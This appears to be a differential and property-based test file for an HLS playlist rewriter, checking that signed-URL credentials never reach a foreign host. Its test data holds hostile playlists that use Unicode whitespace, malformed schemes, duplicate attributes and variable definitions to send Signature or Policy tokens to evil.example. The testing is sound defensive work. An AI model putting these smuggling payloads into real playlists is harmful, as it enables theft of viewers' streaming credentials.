import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { UnsafePlaylistError } from '../../src/errors.js';
import { rewritePlaylist, rewritePlaylistDetailed } from '../../src/rewriter/index.js';
import { ALLOW_HOSTS, CREDS, VIEWER_URL, nonUriBytesProblem } from './oracle.js';
import { hlsJsLeak, readWithHlsJs, whatwgLeak } from './readers.js';

// Differential tests: every rewritten playlist is read by real hls.js and by WHATWG URL (with variables
// substituted as players do), and no credential may reach a host other than the viewer's or an allowed one.

const OPTIONS = { url: VIEWER_URL, allowHosts: [...ALLOW_HOSTS] };
const rewrite = (text: string) => rewritePlaylistDetailed(text, OPTIONS);

/** Both readers' verdicts on one rewritten playlist (undefined when both find no leak). */
async function leak(output: string): Promise<string | undefined> {
  return whatwgLeak(output, VIEWER_URL) ?? (await hlsJsLeak(output, VIEWER_URL));
}

/** The naive rewrite every earlier system did: credentials on every URI line and URI attribute, no host rule. */
function naive(text: string): string {
  return text
    .split('\n')
    .map((line) => (line.startsWith('#') ? line.replace(/URI="([^"]*)"/g, `URI="$1?${CREDS}"`) : line === '' ? line : `${line}?${CREDS}`))
    .join('\n');
}

const MEDIA = (lines: string) => `#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-TARGETDURATION:4\n${lines}\n#EXTINF:4,\nlast.ts\n#EXT-X-ENDLIST\n`;

/** The four leak paths of the hostile review, each as a playlist. */
const REVIEW_CASES: Array<[string, string]> = [
  ['U+00A0 before a key URI', MEDIA('#EXT-X-KEY:METHOD=AES-128,URI="\u00a0//evil.example/k"\n#EXTINF:4,\na.ts')],
  ['U+3000 before an init segment URI', MEDIA('#EXT-X-MAP:URI="\u3000//evil.example/init.mp4"\n#EXTINF:4,\na.ts')],
  ['U+FEFF before a segment URI line', MEDIA('#EXTINF:4,\n\ufeff//evil.example/a.ts')],
  ['U+00A0 in a DEFINE value used at the start of a URI', MEDIA('#EXT-X-DEFINE:NAME="m",VALUE="\u00a0//evil.example"\n#EXT-X-MAP:URI="{$m}/init.mp4"\n#EXTINF:4,\na.ts')],
  ['a duplicate DEFINE VALUE (hls.js keeps the last)', MEDIA('#EXT-X-DEFINE:NAME="m",VALUE="v1",VALUE="//evil.example/x"\n#EXT-X-MAP:URI="{$m}/init.mp4"\n#EXTINF:4,\na.ts')],
  ['a redefined variable (hls.js keeps the first)', MEDIA('#EXT-X-DEFINE:NAME="m",VALUE="//evil.example/x"\n#EXT-X-DEFINE:NAME="m",VALUE="v1"\n#EXT-X-MAP:URI="{$m}/init.mp4"\n#EXTINF:4,\na.ts')],
  ['a DEFINE value that references another variable', MEDIA('#EXT-X-DEFINE:NAME="h",VALUE="//evil.example"\n#EXT-X-DEFINE:NAME="m",VALUE="{$h}"\n#EXT-X-MAP:URI="{$m}/init.mp4"\n#EXTINF:4,\na.ts')],
  ['a duplicate URI attribute', MEDIA('#EXT-X-MAP:URI="init.mp4",URI="//evil.example/init.mp4"\n#EXTINF:4,\na.ts')],
  ['a QUERYPARAM Signature copied into a foreign URI', MEDIA('#EXT-X-DEFINE:QUERYPARAM="Signature"\n#EXT-X-MAP:URI="https://evil.example/x?s={$Signature}"\n#EXTINF:4,\na.ts')],
  ['https:/evil.example', MEDIA('#EXT-X-MAP:URI="https:/evil.example/x"\n#EXTINF:4,\na.ts')],
  ['https:evil.example', MEDIA('#EXTINF:4,\nhttps:evil.example/x.ts')],
  ['HTTPS:evil.example', MEDIA('#EXTINF:4,\nHTTPS:evil.example/x.ts')],
  ['1a://', MEDIA('#EXTINF:4,\n1a://evil.example/x.ts')],
  ['+http://', MEDIA('#EXT-X-KEY:METHOD=AES-128,URI="+http://evil.example/k"\n#EXTINF:4,\na.ts')],
  ['-://', MEDIA('#EXTINF:4,\n-://evil.example/x.ts')],
  ['https:///evil.example', MEDIA('#EXTINF:4,\nhttps:///evil.example/x.ts')],
];

describe('the readers catch the leaks they are meant to catch', () => {
  it('hls.js really reads the playlist: it requests the level and lists every segment URL', async () => {
    const reading = await readWithHlsJs(rewrite('#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv1/index.m3u8\n').text, VIEWER_URL);
    expect(reading.requested[0]).toBe(VIEWER_URL);
    expect(reading.requested[1]).toBe(`https://example.com/movies/42/v1/index.m3u8?${CREDS}`);
    expect(reading.strings).toContain('https://example.com/movies/42/v1/child.ts');
  });

  for (const [name, text] of REVIEW_CASES) {
    it(`find the leak in a naive rewrite of: ${name}`, async () => {
      const naiveLeak = whatwgLeak(naive(text), VIEWER_URL) ?? (await hlsJsLeak(naive(text), VIEWER_URL));
      expect(naiveLeak).toMatch(/evil\.example|player\.example/);
    });
  }
});

describe('the rewriter against the hostile review (hls.js and WHATWG URL agree nothing leaks)', () => {
  for (const [name, text] of REVIEW_CASES) {
    it(`leaks nothing through ${name}, and still credentials the same-host segments`, async () => {
      const out = rewrite(text);
      if (out.refused !== undefined) {
        expect(out.text).toBe('');
        return;
      }
      expect(await leak(out.text)).toBeUndefined();
      expect(out.text).toContain(`last.ts?${CREDS}`);
      expect(out.untouched).toBeGreaterThan(0);
    });
  }

  it('says why it withheld credentials, by reason', () => {
    expect(rewrite(REVIEW_CASES[0]![1]).withheld).toEqual({ 'whitespace-or-control': 1 });
    expect(rewrite(REVIEW_CASES[7]![1]).withheld).toEqual({ 'duplicate-attribute': 2 });
    expect(rewrite(REVIEW_CASES[10]![1]).withheld).toEqual({ 'scheme-like-prefix': 1 });
    expect(rewrite(REVIEW_CASES[15]![1]).withheld).toEqual({ 'extra-slashes': 1 });
    // A redefined variable: hls.js keeps the first definition, a map the last.
    expect(rewrite(REVIEW_CASES[5]![1]).withheld).toEqual({ 'ambiguous-variable': 1 });
    // A duplicated DEFINE attribute is no longer read at all: the playlist is refused.
    expect(rewrite(REVIEW_CASES[4]![1]).refused).toBe('variable-definition');
    expect(rewrite(MEDIA('#EXT-X-MAP:URI= "init.mp4"\n#EXTINF:4,\na.ts')).withheld).toEqual({ 'loose-attribute': 1 });
  });

  it('keeps credentials on same-host URIs that every reader reads alike: spaces and tabs around a URI line, https://host, //host, /path', async () => {
    const text = MEDIA(`#EXTINF:4,\n  a.ts\t\n#EXTINF:4,\nhttps://example.com/b.ts\n#EXTINF:4,\n//priv.example.com/c.ts\n#EXTINF:4,\n/movies/42/d.ts`);
    const out = rewrite(text);
    expect(out.rewritten).toBe(5);
    expect(out.withheld).toEqual({});
    expect(nonUriBytesProblem(text, out.text)).toBeUndefined();
    expect(await leak(out.text)).toBeUndefined();
  });
});

describe('QUERYPARAM and IMPORT of a credential param', () => {
  const SIGNATURE_NAMES = ['Signature', 'signature', 'SIGNATURE', 'Policy', 'Key-Pair-Id', 'Hash-Algorithm', 'Expires', 'Signature-PREFIX', 'policy-prefix'];

  for (const name of SIGNATURE_NAMES) {
    it(`refuses a playlist that copies ${name} into a foreign URI (nothing to serve, typed error from rewritePlaylist)`, () => {
      const text = MEDIA(`#EXT-X-DEFINE:QUERYPARAM="${name}"\n#EXT-X-KEY:METHOD=AES-128,URI="https://evil.example/k?s={$${name}}"\n#EXTINF:4,\na.ts`);
      const out = rewrite(text);
      expect(out.refused).toBe('credential-variable');
      expect(out.text).toBe('');
      expect(() => rewritePlaylist(text, OPTIONS)).toThrow(UnsafePlaylistError);
    });
  }

  it('refuses the use in a non-URI attribute, a withheld URI, a DEFINE value and an IMPORTed variable', () => {
    const uses = [
      '#EXT-X-DATERANGE:ID="d",START-DATE="2026-01-01T00:00:00Z",X-COM-TOKEN="{$Signature}"',
      '#EXT-X-MAP:URI="\u00a0init.mp4?s={$Signature}"',
      '#EXT-X-DEFINE:NAME="copy",VALUE="{$Signature}"',
    ];
    for (const use of uses) {
      expect(rewrite(MEDIA(`#EXT-X-DEFINE:QUERYPARAM="Signature"\n${use}\n#EXTINF:4,\na.ts`)).refused).toBe('credential-variable');
    }
    const imported = MEDIA('#EXT-X-DEFINE:IMPORT="Policy"\n#EXTINF:4,\nhttps://evil.example/a.ts?p={$Policy}');
    expect(rewrite(imported).refused).toBe('credential-variable');
  });

  it('refuses a credential QUERYPARAM even when it is used only in same-host URIs (any definition of one is refused)', () => {
    const text = MEDIA(
      '#EXT-X-DEFINE:QUERYPARAM="Policy"\n#EXT-X-DEFINE:QUERYPARAM="Signature"\n#EXT-X-DEFINE:QUERYPARAM="Key-Pair-Id"\n'
      + '#EXT-X-MAP:URI="init.mp4?Policy={$Policy}&Signature={$Signature}&Key-Pair-Id={$Key-Pair-Id}"\n'
      + '#EXTINF:4,\na.ts?sig={$Signature}',
    );
    const out = rewrite(text);
    expect(out.refused).toBe('credential-variable');
    expect(out.text).toBe('');
  });

  it('serves a playlist whose QUERYPARAM names an ordinary param (lang), wherever it is used', () => {
    const text = MEDIA('#EXT-X-DEFINE:QUERYPARAM="lang"\n#EXTINF:4,\nhttps://evil.example/{$lang}.ts');
    const out = rewrite(text);
    expect(out.refused).toBeUndefined();
    expect(out.text).toContain('https://evil.example/{$lang}.ts\n');
  });
});

describe('allowHosts and ports', () => {
  const base = 'https://example.com/movies/42/master.m3u8?Policy=P&Signature=S&Key-Pair-Id=K';
  const run = (uri: string, allowHosts: string[]) => rewritePlaylistDetailed(`#EXTM3U\n${uri}\n`, { url: base, allowHosts }).rewritten;

  it('matches an allowed host only on the port it was given (default 443 when none)', () => {
    expect(run('https://video.example.com/x.ts', ['video.example.com'])).toBe(1);
    expect(run('https://video.example.com:443/x.ts', ['video.example.com'])).toBe(1);
    expect(run('https://video.example.com:8443/x.ts', ['video.example.com'])).toBe(0);
    expect(run('https://video.example.com:8443/x.ts', ['video.example.com:8443'])).toBe(1);
    expect(run('https://video.example.com/x.ts', ['video.example.com:8443'])).toBe(0);
    expect(run('https://VIDEO.example.com/x.ts', [' Video.Example.com '])).toBe(1);
  });

  it('matches the viewer host only on its own port', () => {
    expect(run('https://example.com:8443/x.ts', [])).toBe(0);
    expect(run('https://example.com:443/x.ts', [])).toBe(1);
  });

  it('refuses an allowHosts entry that is not a host name with an optional port', () => {
    for (const bad of ['https://video.example.com', 'video.example.com/path', 'user@video.example.com', 'a b']) {
      expect(() => run('x.ts', [bad])).toThrow(/allowHosts entry/);
    }
  });
});

// Generated playlists: every URI-carrying tag, every variable form, duplicate attributes, Unicode White_Space
// (and U+FEFF, which String.prototype.trim also removes) around and inside URIs, and scheme-like prefixes.
const WHITE_SPACE = [
  '\t', '\n', '\u000b', '\f', '\r', ' ', '\u0085', '\u00a0', '\u1680', '\u2000', '\u2001', '\u2002', '\u2003', '\u2004',
  '\u2005', '\u2006', '\u2007', '\u2008', '\u2009', '\u200a', '\u2028', '\u2029', '\u202f', '\u205f', '\u3000', '\ufeff',
];
const PREFIXES = [
  '', '/', '//evil.example/', '//example.com/', '//priv.example.com/', '//priv.example.com:444/', 'https://example.com/',
  'https://evil.example/', 'http://example.com/', 'https://example.com:8443/', 'https:evil.example/', 'https:/evil.example/',
  'HTTPS:evil.example/', 'https:', '1a://evil.example/', '+http://evil.example/', '-://evil.example/', 'https:///evil.example/',
  '///evil.example/', 'skd://', 'data:,', 'h', '.:', 'x:',
];
const PATHS = ['a.ts', 'v1/index.m3u8', 'k.key?x=1', 'init.mp4#t=1', '', 'evil.example/x'];
const VARIABLE_VALUES = ['//evil.example', 'https://example.com', '/', 'p', 'https:evil.example', '\u00a0//evil.example', '{$h}'];
const CREDENTIAL_NAMES = ['Signature', 'signature', 'Policy-PREFIX', 'Key-Pair-Id', 'lang'];

const whitespace = fc.array(fc.constantFrom(...WHITE_SPACE), { maxLength: 2 }).map((a) => a.join(''));
const literalUri = fc.tuple(whitespace, fc.constantFrom(...PREFIXES), fc.constantFrom(...PATHS), whitespace)
  .map(([lead, prefix, path, trail]) => `${lead}${prefix}${path}${trail}`.replace(/[\r\n"]/g, ''));
const variableUri = fc.tuple(fc.constantFrom('v', 'w', 'q'), fc.constantFrom('', '/', 'seg-', 'https://example.com/'), fc.constantFrom(...PATHS))
  .map(([name, before, path]) => `${before}{$${name}}/${path}`);
const uri = fc.oneof({ weight: 3, arbitrary: literalUri }, { weight: 2, arbitrary: variableUri });

const define = fc.oneof(
  fc.tuple(fc.constantFrom('v', 'w', 'h'), fc.constantFrom(...VARIABLE_VALUES)).map(([n, v]) => `#EXT-X-DEFINE:NAME="${n}",VALUE="${v}"`),
  fc.tuple(fc.constantFrom('v', 'w'), fc.constantFrom(...VARIABLE_VALUES), fc.constantFrom(...VARIABLE_VALUES))
    .map(([n, a, b]) => `#EXT-X-DEFINE:NAME="${n}",VALUE="${a}",VALUE="${b}"`),
  fc.constantFrom(...CREDENTIAL_NAMES).map((n) => `#EXT-X-DEFINE:QUERYPARAM="${n}"`),
  fc.constantFrom(...CREDENTIAL_NAMES).map((n) => `#EXT-X-DEFINE:NAME="q",VALUE="x",QUERYPARAM="${n}"`),
);
const credentialReference = fc.constantFrom(...CREDENTIAL_NAMES).map((n) => `?t={$${n}}`);
const uriWithReference = fc.tuple(uri, fc.option(credentialReference, { nil: '' })).map(([u, r]) => (r === '' ? u : `${u.trim()}${r}`));

/** Media-playlist lines that carry URIs, one per URI-carrying tag of the rewriter's table plus URI lines. */
const mediaLine = fc.tuple(fc.nat(8), uriWithReference, uriWithReference, fc.boolean()).map(([how, u, w, dup]) => {
  const second = dup ? `,URI="${w}"` : '';
  switch (how) {
    case 0: return `#EXT-X-KEY:METHOD=AES-128,URI="${u}"${second}`;
    case 1: return `#EXT-X-MAP:URI="${u}"${second}`;
    case 2: return `#EXT-X-PART:DURATION=1,URI="${u}"${second}`;
    case 3: return `#EXT-X-PRELOAD-HINT:TYPE=PART,URI="${u}"${second}`;
    case 4: return `#EXT-X-RENDITION-REPORT:URI="${u}",LAST-MSN=1${second}`;
    case 5: return `#EXT-X-DATERANGE:ID="d${how}",START-DATE="2026-01-01T00:00:00Z",X-ASSET-URI="${u}",X-ASSET-LIST="${w}"`;
    case 6: return `#EXT-X-PREFETCH:${u}`;
    default: return `#EXTINF:4,\n${u}`;
  }
});
/** Attribute lists that readers split differently: spaces around `=` and quotes, names in another case. */
const looseLine = fc.tuple(fc.constantFrom('URI= "', 'URI ="', ' URI="', 'uri="', 'URI="'), uri, fc.constantFrom('"', '" ', '",URI="x.ts"', '",uri="//evil.example/x"'))
  .map(([open, u, close]) => `#EXT-X-MAP:${open}${u}${close}`);

const mediaPlaylist = fc.tuple(fc.array(define, { maxLength: 3 }), fc.array(fc.oneof({ weight: 4, arbitrary: mediaLine }, { weight: 1, arbitrary: looseLine }), { minLength: 1, maxLength: 5 }))
  .map(([defines, lines]) => MEDIA([...defines, ...lines, '#EXTINF:4,', 'a.ts'].join('\n')));

const masterLine = fc.tuple(fc.nat(6), uriWithReference, fc.boolean()).map(([how, u, dup]) => {
  const second = dup ? `,URI="${u}x"` : '';
  switch (how) {
    case 0: return `#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="en",URI="${u}"${second}`;
    case 1: return `#EXT-X-I-FRAME-STREAM-INF:BANDWIDTH=1,URI="${u}"${second}`;
    case 2: return `#EXT-X-SESSION-KEY:METHOD=AES-128,URI="${u}"${second}`;
    case 3: return `#EXT-X-SESSION-DATA:DATA-ID="com.example",URI="${u}"${second}`;
    case 4: return `#EXT-X-CONTENT-STEERING:SERVER-URI="${u}"`;
    case 5: return `#EXT-X-IMAGE-STREAM-INF:BANDWIDTH=1,URI="${u}"${second}`;
    default: return `#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n${u}`;
  }
});
const masterPlaylist = fc.tuple(fc.array(define, { maxLength: 3 }), fc.array(masterLine, { minLength: 1, maxLength: 5 }))
  .map(([defines, lines]) => `#EXTM3U\n#EXT-X-VERSION:11\n${[...defines, ...lines, '#EXT-X-STREAM-INF:BANDWIDTH=2', 'v1/index.m3u8'].join('\n')}\n`);

describe('generated hostile playlists, read by hls.js and WHATWG URL', () => {
  for (const [name, arbitrary] of [['media', mediaPlaylist], ['multivariant', masterPlaylist]] as const) {
    it(`no credential reaches a foreign host from a ${name} playlist, or the playlist is refused`, async () => {
      let refused = 0;
      let served = 0;
      await fc.assert(
        fc.asyncProperty(arbitrary, async (text) => {
          const out = rewrite(text);
          if (out.refused !== undefined) {
            refused++;
            expect(out.text).toBe('');
            return;
          }
          served++;
          expect(await leak(out.text)).toBeUndefined();
        }),
        { numRuns: 250 },
      );
      console.log(`${name}: ${served} served, ${refused} refused`);
      expect(served).toBeGreaterThan(0);
    });
  }
});
